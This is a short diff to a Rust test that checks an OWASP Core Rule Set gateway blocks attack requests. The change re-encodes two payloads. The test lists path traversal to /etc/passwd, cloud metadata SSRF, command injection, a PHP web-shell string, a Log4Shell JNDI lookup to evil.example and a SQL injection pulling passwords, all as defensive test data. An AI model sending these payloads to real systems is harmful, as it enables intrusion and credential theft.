@@ -284,8 +284,8 @@ fn owasp_crs_blocks_attacks_and_passes_ordinary_traffic() {
         "/?file=../../../../etc/passwd",
         "/?u=http://169.254.169.254/latest/meta-data/",
         "/?cmd=;cat%20/etc/passwd",
-        "/?x=%3C?php%20system($_GET[%27c%27]);%20?%3E",
-        "/?q=${jndi:ldap://evil.example/a}",
+        "/?x=%3C?php%20system($_GET%5B%27c%27%5D);%20?%3E",
+        "/?q=$%7Bjndi:ldap://evil.example/a%7D",
         "/?id=1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users--",
     ] {
         let r = gw.send(&browser(attack));
